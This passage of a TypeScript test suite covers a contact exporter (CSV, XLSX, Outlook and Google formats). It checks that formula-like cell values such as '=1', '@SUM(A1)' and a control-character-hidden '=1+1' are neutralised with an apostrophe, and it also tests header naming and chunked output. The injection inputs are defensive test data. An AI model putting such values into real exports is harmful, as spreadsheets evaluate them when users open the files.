    it(`${p.format}: Word-merge columns (names, addresses, phones, e-mails, signed numbers) carry no apostrophe`, async () => {
      const clean: Cell[] = ['Plus s.r.o.', 'Nováková-Dvořáková', 'jana+news@firma.cz', 'Praha 4', 'Na Pankráci 1/12', '-5', '+420 722 391 737', 5];
      const signed = ['-5', '+1.5', '-1 234,50', '+420 (2) 2233-4455', '+36 1 234 5678', '+7 495 123-45-67', '+420/722.391.737'];
      const w = await exportTo(p.format, [clean, ...signed.map((s): Cell[] => ['F', 'N', 'e@x.cz', 'Brno', 'Ulice 1', s, s, 1])], { columns: cols });
      const text = p.decode(w.buf);
      expect(text).not.toContain("'");
      const data = parseCsv(text, p.delimiter);
      expect(data[1]).toEqual(clean.map(String));
      signed.forEach((s, i) => expect(data[i + 2].slice(5, 7)).toEqual([s, s]));
      // …while what a spreadsheet would evaluate is still neutralised
      const formulas = ['+A1', '-2+3', '-2-3', '+1+1', '=1', '@SUM(A1)', '-A1', '+420 722 391 737+A1', '-5e3', '+ 1'];
      const w2 = await exportTo(p.format, formulas.map((f): Cell[] => ['F', 'N', 'e@x.cz', 'Brno', 'Ulice 1', f, f, 1]), { columns: cols });
      const data2 = parseCsv(p.decode(w2.buf), p.delimiter);
      formulas.forEach((f, i) => expect(data2[i + 1].slice(5, 7)).toEqual([`'${f}`, `'${f}`]));
    });
  }

  it('xlsx: formula-like strings get a leading \', number-only text (phones) and numbers are kept', async () => {
    const ws = await readXlsx((await exportTo('xlsx', [evil], { columns: cols })).buf);
    const values = cols.map((_, i) => ws.getRow(2).getCell(i + 1).value);
    expect(values.slice(0, 3)).toEqual(evil.slice(0, 3).map((v) => neutral(v)));
    expect(values[3]).toBe("'+1+1"); // arithmetic: a spreadsheet would evaluate it
    expect(values[4]).toBe(neutral(evil[4]));
    expect(values[5]).toBe("'\n=1+1"); // CR stored as Excel's in-cell line break, after neutralising
    expect(values[6]).toBe('+420 602 123 456');
    expect(values[7]).toBe(-5);
    for (let i = 0; i < cols.length; i++) expect(ws.getRow(2).getCell(i + 1).type).not.toBe(ExcelJS.ValueType.Formula);
  });

  it('xlsx: a control character cannot hide a formula', async () => {
    const ws = await readXlsx((await exportTo('xlsx', [['\u0001=1+1']], { columns: [cols[0]] })).buf);
    expect(ws.getRow(2).getCell(1).value).toBe("'=1+1");
  });

  for (const format of ['outlook', 'google'] as const) {
    it(`${format}: formula-like values neutralised, phone numbers untouched`, async () => {
      const recs = parseWithHeader((await exportTo(format, [evil], { columns: cols })).buf);
      const r = recs[0];
      const company = format === 'outlook' ? r.Company : r['Organization Name'];
      const last = format === 'outlook' ? r['Last Name'] : r['Last Name'];
      const email = format === 'outlook' ? r['E-mail Address'] : r['E-mail 1 - Value'];
      const city = format === 'outlook' ? r['Business City'] : r['Address 1 - City'];
      const phone = format === 'outlook' ? r['Business Phone'] : r['Phone 1 - Value'];
      expect(company).toBe(neutral(evil[0]));
      expect(last).toBe(neutral(evil[1]));
      expect(email).toBe(neutral(evil[2]));
      expect(city).toBe("'+1+1"); // arithmetic: a spreadsheet opening the file would evaluate it
      expect(phone).toBe('+420 602 123 456');
    });
  }

  it('headers (user-field labels) are neutralised too', async () => {
    const w = await exportTo('csv', [['x']], { columns: [{ key: 'field:a', header: '=Sleva', type: 'text' }] });
    expect(w.buf.toString('utf8')).toBe("'=Sleva\r\nx\r\n");
  });
});

// ---- names and the preset table ------------------------------------------------------------------

describe('wordSafeHeader', () => {
  it('drops spaces and diacritics, transliterates, stays a Word field name', () => {
    expect(wordSafeHeader('Název firmy')).toBe('Nazev_firmy');
    expect(wordSafeHeader('Kőszegi Űrhajó')).toBe('Koszegi_Urhajo');
    expect(wordSafeHeader('PSČ')).toBe('PSC');
    expect(wordSafeHeader('Łódź')).toBe('Lodz');
    expect(wordSafeHeader('Имя и фамилия')).toBe('Imya_i_familiya');
    expect(wordSafeHeader('1. řádek adresy')).toBe('F_1_radek_adresy');
    expect(wordSafeHeader('  ??  ')).toBe('Field');
    expect(wordSafeHeader('Velmi dlouhý název sloupce, který Word nevezme celý')).toMatch(/^[A-Za-z][A-Za-z0-9_]{0,39}$/);
  });

  it('makes a header row unique', () => {
    expect(wordSafeHeaders(['E-mail', 'E mail', 'e_mail', 'Obec'])).toEqual(['E_mail', 'E_mail_2', 'e_mail_3', 'Obec']);
  });

  it('every preset has a MIME type and an extension', () => {
    for (const f of EXPORT_FORMATS) expect(EXPORT_FILE_TYPES[f].extension).toMatch(/^(csv|xlsx|vcf)$/);
  });
});

// ---- chunked output: text as UTF-8 in fixed buffers, the in-memory base64 -------------------------

describe('chunked output', () => {
  it('Utf8Chunks: the bytes are the text joined, whatever falls on a chunk edge (2-, 3- and 4-byte characters, a text longer than a chunk)', async () => {
    const pieces = ['a', 'ř', '€', '😀', 'Příliš žluťoučký kůň\r\n', 'x'.repeat(40), 'ž'.repeat(30), 'Ω😀'.repeat(50)];
    const texts: string[] = [];
    for (let i = 0; i < 400; i++) texts.push(pieces[i % pieces.length]!.repeat(1 + (i % 3)));
    const chunks: Buffer[] = [];
    const out = new Writable({ highWaterMark: 100, write(c: Buffer, _enc, cb) { chunks.push(Buffer.from(c)); cb(); } });
    const text = new Utf8Chunks(out, 64);
    for (const t of texts) { const p = text.push(t); if (p) await p; }
    await text.flush();
    expect(Buffer.concat(chunks).toString('utf8')).toBe(texts.join(''));
    expect(chunks.length).toBeGreaterThan(10);
    // Only a text a chunk might not hold makes a bigger one: a chunk of its own.
    for (const c of chunks.filter((c) => c.length > 64)) expect(texts).toContain(c.toString('utf8'));
  });

  it('placed rows (any order, a place left empty) give the same file as the rows in order, in every preset', async () => {
    // The rows last to first, in two batches, at places 0, 2, 3, …: place 1 is never given (a
    // row whose firm is gone) and is no row.
    const placedOf = (rows: Cell[][]): Rows => ({
      count: rows.length + 1,
      placed: (async function* () {
        const order = rows.map((_, i) => i).reverse();
        for (const part of [order.slice(0, 2), order.slice(2)]) yield { at: part.map((i) => (i === 0 ? 0 : i + 1)), rows: part.map((i) => rows[i]!) };
      })(),
    });
    const write = async (format: ExportFormat, rows: Rows) => {
      const out = new PassThrough();
      const chunks: Buffer[] = [];
      out.on('data', (c: Buffer) => chunks.push(c));
      await writeExport({ format, columns: COLUMNS, rows, mergeNames: false }, out);
      return Buffer.concat(chunks);
    };
    for (const format of EXPORT_FORMATS) {
      const rows = format === 'excel-cz' ? LATIN_ROWS : UTF8_ROWS;
      const [inOrder, inPlace] = [await write(format, rows), await write(format, placedOf(rows))];
      if (format === 'xlsx') {
        const [a, b] = [await readXlsx(inOrder), await readXlsx(inPlace)];
        expect(b.rowCount).toBe(a.rowCount);
        for (let r = 1; r <= a.rowCount; r++) expect(b.getRow(r).values, `row ${r}`).toEqual(a.getRow(r).values);
      } else {
        expect(inPlace.toString('utf8'), format).toBe(inOrder.toString('utf8'));
        expect(inPlace.equals(inOrder), format).toBe(true);
      }
    }
  });

  it('Base64Sink: the text is the base64 of the bytes joined, for chunks of any length (0, 1, 2, 3k+1, …)', async () => {
    const bytes = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256));
    for (const sizes of [[1], [2], [3], [4], [5, 1, 1, 2], [0, 7, 64, 1], [4999]]) {
      const sink = new Base64Sink();
      for (let at = 0, i = 0; at < bytes.length; i++) {
        const n = sizes[i % sizes.length]!;
        sink.write(bytes.subarray(at, at + n));
        at += n;
      }
      sink.end();
      await once(sink, 'finish');
      expect(sink.text()).toBe(bytes.toString('base64'));
    }
    const empty = new Base64Sink();
    empty.end();
    await once(empty, 'finish');
    expect(empty.text()).toBe('');
  });
});
